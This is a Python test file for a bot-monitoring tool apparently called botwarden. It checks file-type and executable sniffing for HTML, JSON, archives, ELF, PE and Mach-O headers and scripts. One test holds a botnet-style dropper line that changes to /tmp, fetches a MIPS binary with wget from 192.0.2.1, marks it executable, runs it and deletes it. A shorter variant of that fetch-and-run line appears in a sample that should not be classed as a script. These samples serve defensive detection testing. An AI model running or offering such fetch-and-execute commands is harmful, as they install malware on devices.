import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from botwarden.protocols.mime import HEAD, executable, mime_type


def elf(width: int, order: str, kind: int, machine: int) -> bytes:
    mark = "<" if order == "LSB" else ">"
    return (
        b"\x7fELF"
        + bytes((1 if width == 32 else 2, 1 if order == "LSB" else 2, 1))
        + bytes(9)
        + struct.pack(f"{mark}HH", kind, machine)
        + bytes(100)
    )


def pe(machine: int) -> bytes:
    return b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0" + struct.pack("<H", machine) + bytes(200)


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"<!DOCTYPE HTML PUBLIC", "text/html"),
        (b"\r\n <html>", "text/html"),
        (b"<HTML><HEAD><meta", "text/html"),
        (b"<!-- hello -- there -->\n<head>", "text/html"),
        (b'<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC', "text/html"),
        (b'<?xml version="1.0"?>\n<root xmlns="urn:schemas-upnp-org:device-1-0">', "application/xml"),
        (b'<?xml version="1.0"?><svg xmlns="', "image/svg+xml"),
        (b'<soap:Envelope xmlns:soap="', "application/soap+xml"),
        (b"<s:Envelope xmlns", "text/plain"),
        (b"<!--- never closed - at all", "text/plain"),
        (b'{"name": "x"}', "text/json"),
        (b"{ name: [1]}", "text/json"),
        (b'[{"a"', "text/json"),
        (b"[1, 2]", "text/json"),
        (b"{}", "text/json"),
        (b"{ not json, really }", "text/plain"),
        (b"hello world", "text/plain"),
        (b"too short", None),
        (b"caf\xc3\xa9 au lait, s'il vous plait", None),
        (b"\xef\xbb\xbfhello world", "text/plain"),
        (b"\x89PNG\r\n\x1a\n", "image/png"),
        (b"GIF89a", "image/gif"),
        (b"\xff\xd8\xff\xe0", "image/jpeg"),
        (b"\x1f\x8b\x08", "application/x-gzip"),
        (b"PK\x03\x04\x14\x00\x00\x00", "application/zip"),
        (b"PK\x03\x04\x14\x00\x08\x00" + bytes(22) + b"META-INF/MANIFEST.MF", "application/java-archive"),
        (b"RIFF\x10\x00\x00\x00WEBPVP8", "image/webp"),
        (b"\x00\x00\x00\x20ftypisom", "video/mp4"),
        (b"name" + bytes(253) + b"ustar", "application/x-tar"),
        (b"#!/bin/sh\ncd /tmp", "text/x-shellscript"),
        (b"#!/usr/bin/env python3\n", "text/x-python"),
        (b"#!/usr/bin/perl -w\n", "text/x-perl"),
        (b"MZ\x90\x00", "application/x-dosexec"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x34", "application/x-java-applet"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02", "application/x-mach-o-executable"),
        (b"", None),
        (b"\x00\x01\x02\x03", None),
    ],
)
def test_types_have_the_names_that_zeek_gives_them(head: bytes, expected: str | None) -> None:
    assert mime_type(head) == expected


@pytest.mark.parametrize(
    ("width", "order", "machine", "expected"),
    [
        (32, "LSB", 40, "ELF 32-bit LSB ARM"),
        (32, "MSB", 8, "ELF 32-bit MSB MIPS"),
        (32, "LSB", 8, "ELF 32-bit LSB MIPS"),
        (64, "LSB", 183, "ELF 64-bit LSB AArch64"),
        (32, "LSB", 3, "ELF 32-bit LSB x86"),
        (64, "LSB", 62, "ELF 64-bit LSB x86-64"),
        (32, "MSB", 20, "ELF 32-bit MSB PowerPC"),
        (32, "LSB", 42, "ELF 32-bit LSB SuperH"),
        (32, "MSB", 2, "ELF 32-bit MSB SPARC"),
        (32, "MSB", 4, "ELF 32-bit MSB m68k"),
        (32, "LSB", 93, "ELF 32-bit LSB ARC"),
        (32, "LSB", 195, "ELF 32-bit LSB ARC"),
        (64, "LSB", 243, "ELF 64-bit LSB RISC-V"),
        (32, "LSB", 4660, "ELF 32-bit LSB machine 4660"),
    ],
)
def test_the_machine_of_an_elf_is_told(width: int, order: str, machine: int, expected: str) -> None:
    head = elf(width, order, 2, machine)
    assert executable(head) == expected
    assert mime_type(head) == "application/x-executable"


def test_kinds_of_elf() -> None:
    kinds = [mime_type(elf(32, "MSB", kind, 8)) for kind in range(6)]
    assert kinds == [
        None,
        "application/x-object",
        "application/x-executable",
        "application/x-sharedlib",
        "application/x-coredump",
        None,
    ]


def test_a_cut_elf_is_still_one() -> None:
    assert executable(b"\x7fELF\x01") == "ELF"
    assert executable(b"\x7fELF" + bytes(16)) == "ELF machine 0"


def test_windows_and_mac_programs() -> None:
    assert executable(pe(0x8664)) == "PE x86-64"
    assert executable(pe(0x14C)) == "PE x86"
    assert executable(pe(0x9999)) == "PE"
    assert executable(b"MZ\x90") == "PE"
    assert executable(b"MZ" + bytes(200)) == "MS-DOS"
    assert executable(b"\xcf\xfa\xed\xfe\x0c\x00\x00\x01") == "Mach-O 64-bit AArch64"
    assert executable(b"\xce\xfa\xed\xfe\x07\x00\x00\x00") == "Mach-O 32-bit x86"
    assert executable(b"\xca\xfe\xba\xbe\x00\x00\x00\x02") == "Mach-O universal"
    assert executable(b"\xca\xfe\xba\xbe\x00\x00\x00\x34") is None


def test_scripts() -> None:
    assert executable(b"#!/bin/sh\n") == "shell script"
    assert executable(b"#! /bin/busybox sh\n") == "shell script"
    assert executable(b"#!/usr/bin/perl\n") == "Perl script"
    assert executable(b"#!/usr/bin/env python\n") == "Python script"
    assert executable(b"#!@$") is None


def test_a_fetching_script_without_a_first_line_is_known_by_its_commands() -> None:
    script = b"cd /tmp || cd /var/run; wget http://192.0.2.1/mips; chmod 777 mips; ./mips tel; rm -rf mips\n"
    assert executable(script) == "shell script"
    assert mime_type(script) == "text/plain"


@pytest.mark.parametrize(
    "text",
    [
        b"To install it: wget https://example.com/x.tar.gz and unpack it.\n",
        b"<html><body><pre>cd /tmp; wget http://x; chmod 777 x; ./x</pre>",
        b"Dear customer, please find the invoice below. ./. rm -rf is a command.",
        b"function f() { return a.curl (b); }",
    ],
)
def test_text_about_commands_is_no_script(text: bytes) -> None:
    assert executable(text) is None


@given(st.binary(max_size=2 * HEAD))
def test_any_bytes_give_an_answer(head: bytes) -> None:
    assert mime_type(head) is None or "/" in str(mime_type(head))
    assert executable(head) == executable(head[:HEAD])


@given(st.sampled_from([b"\x7fELF", b"MZ", b"\xca\xfe\xba\xbe", b"#!", b"<!--", b"<?xml", b"{", b"["]), st.binary())
def test_any_bytes_after_a_known_beginning_give_an_answer(start: bytes, rest: bytes) -> None:
    mime_type(start + rest)
    executable(start + rest)
